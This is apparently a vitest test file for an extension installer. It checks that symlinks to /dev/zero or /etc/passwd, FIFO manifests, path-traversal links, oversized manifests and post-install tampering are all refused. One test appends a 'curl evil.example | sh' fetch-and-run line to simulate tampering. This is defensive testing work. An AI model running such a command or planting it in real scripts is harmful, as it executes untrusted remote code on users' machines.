// Hostile trees at install and load (issue 14 item 7): a manifest that is a link to /dev/zero or
// a FIFO, links out of the extension, a copy edited after install. Each is refused in bounded
// time with one line, and nothing half-installed stays behind.
import { execFileSync } from 'node:child_process';
import {
  appendFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readlinkSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { installExtension, InstallError, updateExtension, type ExtensionDirs } from './install';
import { readManifestFile } from './manifestFile';
import { checkExtensionDir, loadInstalled } from './registryLoad';

let root: string;
let dirs: ExtensionDirs;

const MANIFEST = `[extension]\nid = "hostile"\ntitle = "T"\nversion = "0.1.0"\napi = 1\n\n[[commands]]\nid = "hello"\nexec = ["sh", "{extension_dir}/hello.sh"]\n`;

function tree(name: string, files: Record<string, string> = {}): string {
  const dir = join(root, name);
  mkdirSync(dir, { recursive: true });
  for (const [rel, text] of Object.entries(files)) {
    mkdirSync(join(dir, rel, '..'), { recursive: true });
    writeFileSync(join(dir, rel), text);
  }
  return dir;
}

async function failure(p: Promise<unknown>): Promise<InstallError> {
  try {
    await p;
  } catch (err) {
    if (err instanceof InstallError) return err;
    throw err;
  }
  throw new Error('expected the install to fail');
}

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'rozi-hostile-'));
  dirs = {
    extensionsDir: join(root, 'data', 'extensions'),
    stateRoot: join(root, 'state'),
    logRoot: join(root, 'state', 'logs'),
  };
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

it('M01 a manifest linked to /dev/zero is refused at once, at install and at load', async () => {
  const dir = tree('zero', { 'hello.sh': 'echo hi\n' });
  symlinkSync('/dev/zero', join(dir, 'extension.toml'));
  const started = Date.now();
  expect(checkExtensionDir(dir).problem).toMatch(/symbolic link to \/dev\/zero, outside the extension/);
  const err = await failure(installExtension({ dirs, source: dir, link: true }));
  expect(err.code).toBe('invalid-manifest');
  // Copied, the link is a link out of the tree: refused before anything reads it.
  expect((await failure(installExtension({ dirs, source: dir }))).code).toBe('unsafe-link');
  expect(Date.now() - started).toBeLessThan(2000);
});

it('M02 a FIFO (or a device, or a directory) named extension.toml is refused without blocking', () => {
  const dir = tree('fifo');
  execFileSync('mkfifo', [join(dir, 'extension.toml')]);
  expect(readManifestFile(dir)).toMatchObject({ ok: false, problem: expect.stringContaining('a FIFO') });
  expect(checkExtensionDir(dir).problem).toMatch(/not a regular file \(a FIFO\)/);
  const sub = tree('dir-manifest');
  mkdirSync(join(sub, 'extension.toml'));
  expect(readManifestFile(sub)).toMatchObject({ ok: false, problem: expect.stringContaining('a directory') });
});

it('M03 a manifest past 1 MiB is read only to the limit; a link to a manifest inside is fine', () => {
  const big = tree('big');
  writeFileSync(join(big, 'extension.toml'), MANIFEST + `# ${'x'.repeat(3 * 1024 * 1024)}\n`);
  const r = readManifestFile(big);
  expect(r.ok && r.bytes.length).toBe(1024 * 1024 + 1);
  expect(checkExtensionDir(big).problem).toMatch(/invalid manifest/);
  const linked = tree('linked', { 'real/extension.toml': MANIFEST, 'hello.sh': 'echo hi\n' });
  symlinkSync('real/extension.toml', join(linked, 'extension.toml'));
  expect(checkExtensionDir(linked).problem).toBeUndefined();
});

it('I01 a link out of the tree is refused and nothing is installed; links inside stay relative', async () => {
  const dir = tree('escape', { 'extension.toml': MANIFEST, 'hello.sh': 'echo hi\n' });
  symlinkSync('/etc/passwd', join(dir, 'users'));
  const err = await failure(installExtension({ dirs, source: dir }));
  expect(err.code).toBe('unsafe-link');
  expect(err.message).toMatch(/^users is a symbolic link to \/etc\/passwd, outside the extension/);
  expect(readdirSync(dirs.extensionsDir).filter((n) => n !== 'registry.json')).toEqual([]);
  for (const text of ['../../../etc', 'sub/../../x']) {
    rmSync(join(dir, 'users'));
    symlinkSync(text, join(dir, 'users'));
    expect((await failure(installExtension({ dirs, source: dir }))).code, text).toBe('unsafe-link');
  }
  // A git repository holding such a link is refused the same way.
  rmSync(join(dir, 'users'));
  symlinkSync('/etc/hostname', join(dir, 'host'));
  const g = (...a: string[]) =>
    execFileSync('git', ['-c', 'user.email=t@t', '-c', 'user.name=t', ...a], { cwd: dir, stdio: 'ignore' });
  g('init', '-q', '-b', 'main');
  g('add', '-A');
  g('commit', '-qm', 'init');
  expect((await failure(installExtension({ dirs, source: dir }))).code).toBe('unsafe-link');
  // Inside links are kept, and as written (not pointed back into the source).
  rmSync(join(dir, '.git'), { recursive: true });
  rmSync(join(dir, 'host'));
  symlinkSync('hello.sh', join(dir, 'hi.sh'));
  const ok = await installExtension({ dirs, source: dir });
  expect(readlinkSync(join(ok.entry.dir, 'hi.sh'))).toBe('hello.sh');
});

it('I02 a copy edited after install does not load; update restores it', async () => {
  const dir = tree('tamper', { 'extension.toml': MANIFEST, 'hello.sh': 'echo hi\n' });
  const { entry } = await installExtension({ dirs, source: dir });
  expect(entry.digest).toMatch(/^sha256:/);
  expect(loadInstalled(dirs.extensionsDir).extensions[0]?.state).toBe('enabled');
  appendFileSync(join(entry.dir, 'hello.sh'), 'curl evil.example | sh\n');
  const loaded = loadInstalled(dirs.extensionsDir).extensions[0];
  expect(loaded?.state).toBe('invalid');
  expect(loaded?.problem).toMatch(/files changed since it was installed/);
  // The source did not move, yet update puts the installed copy back.
  expect((await updateExtension({ dirs, id: 'hostile' })).status).toBe('updated');
  expect(loadInstalled(dirs.extensionsDir).extensions[0]?.state).toBe('enabled');
  expect(existsSync(join(entry.dir, 'hello.sh'))).toBe(true);
});

it('I06 a 300-character id is an invalid manifest in one line, not a raw ENAMETOOLONG', async () => {
  const long = 'a'.repeat(300);
  const dir = tree('long', { 'extension.toml': MANIFEST.replace('"hostile"', `"${long}"`), 'hello.sh': '' });
  const err = await failure(installExtension({ dirs, source: dir }));
  expect(err.code).toBe('invalid-manifest');
  expect(err.message).toMatch(/is 300 characters long; ids have at most 128/);
  expect(err.message).not.toMatch(/ENAMETOOLONG/);
});
